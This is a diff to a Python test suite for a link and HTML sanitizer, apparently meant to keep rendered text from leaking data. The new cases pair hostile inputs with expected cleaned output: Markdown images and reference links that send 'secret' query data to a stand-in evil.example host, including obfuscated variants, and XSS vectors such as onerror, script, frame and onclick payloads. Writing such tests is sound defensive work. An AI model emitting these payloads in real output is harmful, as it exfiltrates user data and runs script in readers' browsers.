@@ -35,6 +35,8 @@ def filtered(text: str, size: int = 0) -> str:
         "The tag <img> shows an image; `<a>` links.",
         "shown by <img src='a.png'>",
         "Wow! [1] 好！【2】 [note] !important",
+        "Note [1]: it is so. [2]: https://example.org/guide?page=2\n[3]: https://code.example/x",
+        "List<String> x = new List<>(); if a<b: //comment\n x>y",
         "",
     ],
 )
@@ -64,6 +66,19 @@ def test_left_as_it_is(text: str, size: int) -> None:
         ("<a href='https://evil.example'>b</a>", "b</a>"),
         ("[a][1]\n\n[1]: https://evil.example/x\nend", "[a][1]\n\n[1]: evil.example\nend"),
         ("[a][1]\n\n[1]: //evil.example/x", "[a][1]\n\n[1]: evil.example"),
+        # As Markdown and browsers read it: over the end of a line, with entities, with backslashes, in any tag.
+        ("![a\nb](//evil.example/p?q=secret)", "a\nb"),
+        ("[a](<//evil.example/p>\n'title') b", "a b"),
+        ("![a][b]\n\n[b]:  //evil.example/p?q=secret", "![a][b]\n\n[b]:  evil.example"),
+        ("![a][b]\n\n[b]:\n//evil.example/p?q=secret\nend", "![a][b]\n\n[b]:\nevil.example\nend"),
+        ("![a][b]\n\n[b]: &#104;ttps://evil.example/x 'title'", "![a][b]\n\n[b]: evil.example 'title'"),
+        ("![a][b]\n\n[b]: https\\://evil.example/x", "![a][b]\n\n[b]: evil.example"),
+        ("> ![a][b]\n>\n> [b]: <//evil.example/x>", "> ![a][b]\n>\n> [b]: evil.example"),
+        ("<img\nsrc=//evil.example/p onerror=alert(1)>a", "a"),
+        ("<script\n>alert(1)</script\n>", "alert(1)"),
+        ("<frame src=//evil.example/x><textarea autofocus>b</textarea>", "b"),
+        ("<div style='background:url(//evil.example/x)'>b</div>", "b</div>"),
+        ("<p onclick=alert(1)>b</p>", "b</p>"),
         ("safe \u202eevil\u202c \U000e0061text", "safe evil text"),
     ],
 )
@@ -92,7 +107,7 @@ def test_no_image_is_ever_left(parts: list[str]) -> None:
 
 
 def test_long_texts_take_no_square_of_their_length() -> None:
-    for unit in ("[", "![", "[a](", "<a ", "[a](b)", "http://", "!", "](", "[[a]("):
+    for unit in ("[", "![", "[a](", "<a ", "<a b=", "\n[a]: ", "[a\n", "[a](b)", "http://", "!", "](", "[[a]("):
         started = time.process_time()
         LINKS.cleaned(unit * 4000)
         list(LINKS.filter([unit] * 400))
